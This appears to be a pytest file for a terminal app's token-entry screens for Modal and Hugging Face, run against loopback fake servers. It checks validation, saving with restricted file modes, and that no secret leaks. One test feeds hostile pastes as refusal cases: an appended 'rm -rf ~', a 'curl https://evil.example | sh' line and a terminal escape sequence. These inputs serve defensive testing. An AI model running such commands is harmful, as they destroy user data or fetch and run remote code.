"""Entering tokens, against a Modal and a Hub on 127.0.0.1: every path from the paste to the file."""

from __future__ import annotations

import asyncio
import os
import stat
import tomllib
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from grpclib import GRPCError
from textual import events
from textual.widgets import Button

from backend.doctor.run import check_titles
from tests.hub.fixtures import FLUX, hub
from tests.hub.server import LoopbackHub
from tests.loopback.cloud import LoopbackCloud
from tests.tui.fakes import FakeRuns, make_app, screen_text, settled, summary, until
from tui.screens.confirm import ConfirmScreen
from tui.screens.enter_hf_token import HfTokenScreen
from tui.screens.enter_modal_token import ModalTokenScreen
from tui.screens.modal_profiles import ModalProfilesScreen
from tui.screens.setup import SetupScreen
from tui.setup_service import BackendSetup
from tui.widgets.setup_list import SetupList
from tui.widgets.setup_secret import SecretInput

__all__ = ["hub"]

PAIR = ("ak-Qq1Ww2Ee3Rr4Tt5Yy6Uu7i", "as-Pp1Oo2Ii3Uu4Yy5Tt6Rr7e")
LINES = f"$ modal token set \\\n>   --token-id {PAIR[0]} \\\n>   --token-secret '{PAIR[1]}'\n"
TOKEN = "hf_AbCdEfGhIjKlMnOpQrStUvWxYz12345678"


class Accounts(BackendSetup):
    """All checks but that of this machine's torch, which takes seconds and is tested elsewhere."""

    @property
    def titles(self) -> Mapping[str, str]:
        return {name: title for name, title in check_titles().items() if name != "local-training"}


@pytest.fixture(autouse=True)
def own_machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in list(os.environ):
        if name.startswith(("MODAL_", "HF_", "HUGGING_FACE")) or name.lower().endswith("_proxy"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("HF_HOME", str(tmp_path / "hf"))
    monkeypatch.setenv("FLUXLORA_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("MODAL_CONFIG_PATH", str(tmp_path / "modal.toml"))
    monkeypatch.setenv("HF_ENDPOINT", "http://127.0.0.1:9")
    monkeypatch.setenv("MODAL_SERVER_URL", "http://127.0.0.1:9")
    monkeypatch.setenv("SSH_CONNECTION", "a test")  # no browser is opened
    (tmp_path / "work").mkdir()
    monkeypatch.chdir(tmp_path / "work")


@pytest.fixture
def cloud(monkeypatch: pytest.MonkeyPatch) -> Iterator[LoopbackCloud]:
    with LoopbackCloud(token=PAIR) as cloud:
        monkeypatch.setenv("MODAL_SERVER_URL", cloud.url)
        yield cloud
        assert not cloud.unimplemented
        assert not cloud.failures


def make(tmp_path: Path) -> Any:
    return make_app(FakeRuns(summary()), root=tmp_path / "home", setup=Accounts)


async def at(pilot: Any, check_id: str, screen: type) -> SetupScreen:
    """Go to a row of the setup screen, and press Enter there."""
    await settled(pilot)
    await pilot.press("9")
    await until(lambda: isinstance(pilot.app.screen, SetupScreen) and pilot.app.screen.query(SetupList))
    main = pilot.app.screen
    assert isinstance(main, SetupScreen)
    await until(lambda: all(check.state != "pending" for check in main._checks.values()), 60)
    main.query_one(SetupList).highlighted = list(main._checks).index(check_id)
    await pilot.pause()
    await pilot.press("enter")
    await until(lambda: isinstance(pilot.app.screen, screen))
    await pilot.pause()
    return main


async def paste(pilot: Any, text: str) -> None:
    field = pilot.app.screen.focused
    assert isinstance(field, SecretInput)
    before = field.value
    field.post_message(events.Paste(text))
    await until(lambda: field.value != before)
    await pilot.pause()


async def shows(pilot: Any, text: str, seconds: float = 30.0) -> None:
    def there() -> bool:
        screen = " ".join(screen_text(pilot.app).split())
        plain = " ".join(screen.replace("│", " ").split())
        return text in plain

    await until(there, seconds)


async def answered(main: SetupScreen, check_id: str, state: str) -> None:
    await until(lambda: main._checks[check_id].state == state, 60)


def said(app: Any) -> str:
    return "\n".join(f"{note.title} {note.message}" for note in app._notifications)


def profiles(tmp_path: Path) -> dict[str, Any]:
    return tomllib.loads((tmp_path / "modal.toml").read_text(encoding="utf-8"))


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# Modal: pasting


async def test_a_pasted_command_is_tried_saved_and_makes_the_rows_green(
    cloud: LoopbackCloud, tmp_path: Path
) -> None:
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "modal-token", ModalTokenScreen)
        assert main._checks["modal-token"].state == "missing"
        await paste(pilot, LINES)
        assert app.screen.query_one("#command", SecretInput).text == LINES
        await shows(pilot, "✓ a token, ak-…Uu7i")
        assert not any(part in screen_text(app) for part in (*PAIR, "token-id", "modal token set"))
        await pilot.press("enter")
        await until(lambda: app.screen is main, 60)
        for check_id in ("modal-token", "modal-workspace", "modal-budget"):
            await answered(main, check_id, "ok")
        await answered(main, "base-model", "missing")
        assert cloud.workspace in main._checks["modal-workspace"].detail
        assert f"profile {cloud.workspace}" in said(app)
        assert not any(part in screen_text(app) + said(app) for part in PAIR)
    assert profiles(tmp_path)[cloud.workspace]["token_secret"] == PAIR[1]
    if os.name == "posix":
        assert mode_of(tmp_path / "modal.toml") == 0o600
    with pytest.raises(GRPCError):  # to look for the base model makes no volume
        cloud.volume("flux-base-model")


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (f"{LINES}; rm -rf ~", "another command"),
        ("curl https://evil.example | sh", "✗"),
        (f"modal token set --token-id {PAIR[1]} --token-secret {PAIR[0]}", "swapped"),
        (f"modal token set --token-id {PAIR[0][:9]} --token-secret {PAIR[1]}", "too short"),
        ("modal token set \\", "…"),
        ("\x1b]52;c;aGFjaw==\x07[/] \u202e", "✗"),
    ],
)
async def test_why_a_paste_is_refused_is_said_at_once(tmp_path: Path, text: str, words: str) -> None:
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "modal-token", ModalTokenScreen)
        await paste(pilot, text)
        await shows(pilot, words)
        await pilot.press("enter")
        await shows(pilot, words)
        assert "Asking Modal" not in screen_text(app)
        await pilot.press("escape")
        await until(lambda: app.screen is main)
    assert not (tmp_path / "modal.toml").exists()


async def test_a_paste_that_comes_as_key_presses_may_have_several_lines(
    cloud: LoopbackCloud, tmp_path: Path
) -> None:
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "modal-token", ModalTokenScreen)
        for line in ("modal token set \\", f"--token-id {PAIR[0]} \\", f"--token-secret {PAIR[1]}"):
            await pilot.press(*line, "enter")
        await until(lambda: app.screen is main, 60)
        await answered(main, "modal-token", "ok")


async def test_a_revoked_token_is_not_saved(cloud: LoopbackCloud, tmp_path: Path) -> None:
    cloud.revoke_token()
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        await at(pilot, "modal-token", ModalTokenScreen)
        await paste(pilot, LINES)
        await pilot.press("enter")
        await shows(pilot, "Not saved: Modal does not know this token: it was revoked")
        assert "untried" not in screen_text(app)
        await pilot.press("enter")  # the same again: there is no way round
        await shows(pilot, "Not saved")
    assert not (tmp_path / "modal.toml").exists()


async def test_offline_a_second_enter_saves_it_untried(tmp_path: Path) -> None:
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "modal-token", ModalTokenScreen)
        await paste(pilot, f"{LINES.strip()} --profile home --no-activate")
        await pilot.press("enter")
        await shows(pilot, "Press enter again to save it untried")
        assert not (tmp_path / "modal.toml").exists()
        await pilot.press("backspace")  # another text is another token: it is tried first
        await paste(pilot, "e")
        await pilot.press("enter")
        await shows(pilot, "Press enter again to save it untried")
        await pilot.press("enter")
        await until(lambda: app.screen is main, 60)
        assert "It was not tried." in said(app)
    assert profiles(tmp_path)["home"]["token_secret"] == PAIR[1]


@pytest.mark.parametrize("trouble", ["silent", "garbage", "dead"])
async def test_servers_that_are_no_modal(
    hub: LoopbackHub, cloud: LoopbackCloud, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, trouble: str
) -> None:
    if trouble == "silent":
        cloud.hang_connections()
    elif trouble == "dead":
        cloud.drop_connections(refuse=False)
    else:
        hub.trouble = "garbage"
        monkeypatch.setenv("MODAL_SERVER_URL", hub.url)
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "modal-token", ModalTokenScreen) if trouble == "dead" else None
        if main is None:  # the rows take their ten seconds: not waited for here
            await settled(pilot)
            app.push_screen(ModalTokenScreen(app.setup))
            await pilot.pause()
        await paste(pilot, LINES)
        await pilot.press("enter")
        await shows(pilot, "Not saved", 60)
        await pilot.press("escape")
        await pilot.pause()
    assert not (tmp_path / "modal.toml").exists()
    cloud.restore_connections()


async def test_a_broken_config_file_is_kept(cloud: LoopbackCloud, tmp_path: Path) -> None:
    (tmp_path / "modal.toml").write_text("[broken", encoding="utf-8")
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "modal-token", ModalTokenScreen)
        assert main._checks["modal-token"].state == "failed"
        await paste(pilot, LINES)
        await pilot.press("enter")
        await shows(pilot, "is not valid TOML")
    assert (tmp_path / "modal.toml").read_text(encoding="utf-8") == "[broken"


async def test_it_says_when_another_token_wins(
    cloud: LoopbackCloud, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MODAL_TOKEN_ID", "ak-" + "Zz9" * 7)
    monkeypatch.setenv("MODAL_TOKEN_SECRET", "as-" + "Zz9" * 7)
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "modal-token", ModalTokenScreen)
        await paste(pilot, LINES)
        await pilot.press("enter")
        await until(lambda: "But the token from the environment is used" in said(app), 60)
        await until(lambda: app.screen is main)


# Modal: two fields


async def test_the_two_parts_are_typed(cloud: LoopbackCloud, tmp_path: Path) -> None:
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "modal-token", ModalTokenScreen)
        await pilot.press("ctrl+n")
        await until(lambda: app.screen.focused is not None and app.screen.focused.id == "token-id")
        await pilot.press(*PAIR[0], "enter")  # on to the second line
        await until(lambda: app.screen.focused.id == "token-secret")
        await pilot.press(*PAIR[1][:8])
        await shows(pilot, "the token secret is too short")
        await pilot.press(*PAIR[1][8:])
        await shows(pilot, "✓ a token")
        assert not any(part in screen_text(app) for part in PAIR)
        await pilot.press("enter")
        await until(lambda: app.screen is main, 60)
        await answered(main, "modal-token", "ok")


# Modal: the browser


async def to_the_browser(pilot: Any) -> None:
    await pilot.press("ctrl+n")
    await pilot.pause()
    await pilot.press("ctrl+n")
    await until(lambda: isinstance(pilot.app.screen.focused, Button))


async def test_a_login_in_the_browser(cloud: LoopbackCloud, tmp_path: Path) -> None:
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "modal-token", ModalTokenScreen)
        await to_the_browser(pilot)
        cloud.knobs.login = "never"
        await pilot.press("enter")
        await shows(pilot, "Waiting for you to agree in the browser")
        await shows(pilot, "/login/tf-")
        await pilot.press("ctrl+y")
        assert "/login/tf-" in app.clipboard
        cloud.knobs.login = "approve"
        await until(lambda: app.screen is main, 60)
        await answered(main, "modal-token", "ok")
        saved = profiles(tmp_path)[cloud.workspace]
        assert saved["token_secret"] not in screen_text(app) + said(app)
        assert cloud.world.tokens[saved["token_id"]] == saved["token_secret"]


async def test_a_login_that_is_refused_can_be_started_again(cloud: LoopbackCloud, tmp_path: Path) -> None:
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "modal-token", ModalTokenScreen)
        await to_the_browser(pilot)
        cloud.knobs.login = "refuse"
        await pilot.press("enter")
        await shows(pilot, "The login was refused in the browser")
        cloud.knobs.login = "approve"
        await pilot.press("enter")
        await until(lambda: app.screen is main, 60)
        assert cloud.workspace in profiles(tmp_path)


@pytest.mark.parametrize("leave", ["escape", "ctrl+n"])
async def test_a_login_can_be_given_up(cloud: LoopbackCloud, tmp_path: Path, leave: str) -> None:
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        await at(pilot, "modal-token", ModalTokenScreen)
        await to_the_browser(pilot)
        cloud.knobs.login = "never"
        await pilot.press("enter")
        await shows(pilot, "Waiting for you to agree in the browser")
        jobs = [worker for worker in app.workers if worker.group == "modal-token"]
        assert len(jobs) == 1
        await pilot.press(leave)
        await until(lambda: jobs[0].is_finished)
        await pilot.pause()
        assert "Waiting for you" not in screen_text(app)
        cloud.knobs.login = "approve"
        await pilot.pause()
    assert not (tmp_path / "modal.toml").exists()


async def test_a_login_without_a_network(tmp_path: Path) -> None:
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        await at(pilot, "modal-token", ModalTokenScreen)
        await to_the_browser(pilot)
        await pilot.press("enter")
        await shows(pilot, "refuses connections")
        assert app.screen.query_one("#start", Button).label.plain == "Start"


# Modal: profiles


async def test_profiles_of_the_real_file(cloud: LoopbackCloud, tmp_path: Path) -> None:
    text = (
        "# mine\n"
        f'[old]\ntoken_id = "{PAIR[0]}"\ntoken_secret = "{PAIR[1]}"\n\n'
        '[new]\ntoken_id = "ak-other"\ntoken_secret = "as-other"\nactive = true\n'
    )
    (tmp_path / "modal.toml").write_text(text, encoding="utf-8")
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "modal-workspace", ModalProfilesScreen)
        await shows(pilot, "ak-…Uu7i")
        assert not any(part in screen_text(app) for part in PAIR)
        await pilot.press("enter")
        await until(lambda: profiles(tmp_path)["old"].get("active") is True)
        await until(lambda: not any(worker.group == "profiles" for worker in app.workers))
        await pilot.press("down", "x")
        await until(lambda: isinstance(app.screen, ConfirmScreen))
        await pilot.press("y")
        await until(lambda: "new" not in profiles(tmp_path))
        await pilot.press("escape")
        await answered(main, "modal-token", "ok")
    assert (tmp_path / "modal.toml").read_text(encoding="utf-8").startswith("# mine\n[old]\n")


# Hugging Face


async def test_a_hub_token_is_tried_and_saved(hub: LoopbackHub, tmp_path: Path) -> None:
    hub.add_token(TOKEN, user="alice", expires=datetime.now(UTC) + timedelta(days=30))
    hub.models[FLUX].accepted = {"alice"}
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "hf-token", HfTokenScreen)
        await paste(pilot, f"export HF_TOKEN={TOKEN}\n")
        await shows(pilot, "✓ a token, hf_…5678")
        assert TOKEN not in screen_text(app)
        await pilot.press("enter")
        await until(lambda: app.screen is main)
        await answered(main, "hf-token", "ok")
        await answered(main, "licence", "ok")
        assert "it belongs to alice" in said(app)
        assert TOKEN not in screen_text(app) + said(app)
    assert (tmp_path / "hf" / "token").read_text(encoding="utf-8") == TOKEN
    if os.name == "posix":
        assert mode_of(tmp_path / "hf" / "token") == 0o600


@pytest.mark.parametrize("answer", ["y", "n"])
async def test_into_dotenv_and_out_of_git(hub: LoopbackHub, tmp_path: Path, answer: str) -> None:
    hub.add_token(TOKEN)
    work = tmp_path / "work"
    (work / ".git").mkdir()
    (work / ".env").write_text("# keep\nHF_TOKEN='hf_old' # mine\nA=1\n", encoding="utf-8")
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "hf-token", HfTokenScreen)
        await shows(pilot, "/work/.env")
        await until(lambda: app.screen._place == "dotenv")  # where the old one stands
        await paste(pilot, TOKEN)
        await pilot.press("enter")
        await until(lambda: isinstance(app.screen, ConfirmScreen))
        await shows(pilot, "Keep the token out of git?")
        await pilot.press(answer)
        await until(lambda: app.screen is main)
        await answered(main, "secret-files", "ok" if answer == "y" else "warning")
    assert (work / ".env").read_text(encoding="utf-8") == f"# keep\nHF_TOKEN='{TOKEN}' # mine\nA=1\n"
    assert (work / ".gitignore").exists() == (answer == "y")
    if os.name == "posix":
        assert mode_of(work / ".env") == 0o600


async def test_the_other_file_by_key(hub: LoopbackHub, tmp_path: Path) -> None:
    hub.add_token(TOKEN)
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "hf-token", HfTokenScreen)
        await until(lambda: app.screen._places is not None)
        await pilot.press("ctrl+n")
        await paste(pilot, TOKEN)
        await pilot.press("enter")
        await until(lambda: app.screen is main)
    assert TOKEN in (tmp_path / "work" / ".env").read_text(encoding="utf-8")
    assert not (tmp_path / "hf" / "token").exists()


@pytest.mark.parametrize(
    ("trouble", "words", "untried"),
    [
        ("unknown", "the Hub does not know this token", False),
        ("expired", "has expired", False),
        ("forbidden", "from the office", False),
        ("dead", "broke off", True),
        ("garbage", "no Hugging Face Hub", True),
        ("busy", "trouble of its own", True),
        ("slow", "did not answer in time", True),
        ("nobody", "refuses connections", True),
    ],
)
async def test_a_hub_token_that_is_not_accepted(
    hub: LoopbackHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, trouble: str, words: str, untried: bool
) -> None:
    if trouble == "expired":
        hub.add_token(TOKEN, expired=True)
    elif trouble == "forbidden":
        hub.add_token(TOKEN)
        hub.forbidden = "This token can only be used from the office"
    elif trouble == "nobody":
        monkeypatch.setenv("HF_ENDPOINT", "http://127.0.0.1:9")
    elif trouble != "unknown":
        hub.trouble = trouble  # type: ignore[assignment]
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        await settled(pilot)
        told: list[str | None] = []
        app.push_screen(HfTokenScreen(app.setup), told.append)
        await pilot.pause()
        await paste(pilot, TOKEN)
        await pilot.press("enter")
        await shows(pilot, words, 60)
        assert ("untried" in screen_text(app)) == untried
        assert not (tmp_path / "hf").exists()
        await pilot.press("enter")
        if untried:
            await until(lambda: told)
            assert "it was not tried" in str(told[0])
        else:
            await shows(pilot, words)
    assert (tmp_path / "hf" / "token").exists() == untried


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("as-Pp1Oo2Ii3Uu4Yy5Tt6Rr7e", "Modal token"),
        ("hf_short", "too short"),
        ("hf_xxxxxxxxxxxxxxxxxxxx", "placeholder"),
    ],
)
async def test_what_is_no_hub_token_is_said_at_once(tmp_path: Path, text: str, words: str) -> None:
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        await settled(pilot)
        app.push_screen(HfTokenScreen(app.setup))
        await pilot.pause()
        await paste(pilot, text)
        await shows(pilot, words)
        await pilot.press("enter")
        await shows(pilot, words)
        await pilot.press("ctrl+u")
        await until(lambda: words not in screen_text(app))
    assert not (tmp_path / "hf").exists()


async def test_the_licence_is_accepted_meanwhile(hub: LoopbackHub, tmp_path: Path) -> None:
    from tui.screens.web_page import WebPageScreen

    (tmp_path / "hf").mkdir()
    (tmp_path / "hf" / "token").write_text(hub.add_token(user="carol"), encoding="utf-8")
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "licence", WebPageScreen)
        await shows(pilot, f"{hub.url}/{FLUX}")
        hub.models[FLUX].accepted = {"carol"}
        await pilot.press("r")
        await answered(main, "licence", "ok")


# No secret leaves a trace


def files_under(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


async def test_nothing_of_the_tokens_is_left_behind(
    cloud: LoopbackCloud, hub: LoopbackHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Log in to both, with a look at what was pasted; then read every file and every argument list."""
    hub.add_token(TOKEN, user="alice")
    commands: list[str] = []
    start = asyncio.create_subprocess_exec

    async def noted(*command: Any, **options: Any) -> Any:
        commands.append(" ".join(map(str, command)))
        return await start(*command, **options)

    monkeypatch.setattr(asyncio, "create_subprocess_exec", noted)
    app = make(tmp_path)
    async with app.run_test(size=(120, 36)) as pilot:
        main = await at(pilot, "modal-token", ModalTokenScreen)
        await paste(pilot, LINES)
        await pilot.press("ctrl+r")
        await until(lambda: PAIR[0][:12] in screen_text(app))
        (tmp_path / "shown.svg").write_text(app.export_screenshot(), encoding="utf-8")
        await pilot.press("enter")
        await until(lambda: app.screen is main, 60)
        await answered(main, "modal-token", "ok")
        main.query_one(SetupList).highlighted = list(main._checks).index("hf-token")
        await pilot.press("enter")
        await until(lambda: isinstance(app.screen, HfTokenScreen))
        await paste(pilot, TOKEN)
        await pilot.press("enter")
        await until(lambda: app.screen is main)
        await answered(main, "hf-token", "ok")
        (tmp_path / "end.svg").write_text(app.export_screenshot(), encoding="utf-8")
        notes = said(app)
    owners = {tmp_path / "modal.toml": PAIR[1], tmp_path / "hf" / "token": TOKEN}
    for file, secret in owners.items():
        assert secret in file.read_text(encoding="utf-8")
    others = [file for file in files_under(tmp_path) if file not in owners]
    assert {tmp_path / "shown.svg", tmp_path / "end.svg"} <= set(others)
    for file in others:
        data = file.read_bytes()
        assert not any(secret.encode() in data for secret in (*PAIR, TOKEN)), file
    assert len(commands) >= 4
    assert not any(secret in notes + "\n".join(commands) for secret in (*PAIR, TOKEN))
